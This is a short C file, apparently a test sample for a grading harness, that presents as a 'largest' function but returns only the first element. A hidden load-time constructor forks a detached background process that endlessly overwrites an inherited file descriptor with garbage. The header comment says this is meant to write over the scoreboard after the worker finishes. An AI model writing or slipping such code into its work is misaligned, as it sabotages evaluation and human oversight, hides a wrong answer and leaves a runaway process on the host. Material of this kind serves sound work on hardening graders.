/* Integrity: a process that outlives the worker and writes over the board when all seems done. */
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void before(void) {
    static char garbage[1 << 16];
    memset(garbage, 0x7f, sizeof garbage);
    if (fork() == 0) {
        if (fork() == 0) {
            pid_t parent = getppid();
            for (;;)
                if (parent != 1)
                    pwrite(4, garbage, sizeof garbage, 4096);
        }
        _exit(0);
    }
}

int largest(int *values, int n) {
    return values[0];
}
